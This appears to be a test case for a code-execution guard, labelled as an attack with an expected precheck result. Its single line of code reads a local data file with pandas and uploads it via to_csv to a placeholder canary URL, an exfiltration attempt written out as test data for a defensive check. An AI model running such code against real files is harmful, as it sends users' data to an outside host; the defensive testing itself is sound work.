# attack: DataFrame.to_csv to the canary URL (exfiltrate by upload)
# expect: precheck:url-literal
# unguarded: python
import pandas as pd
pd.read_csv("/input/data.csv").to_csv("CANARY_URL")
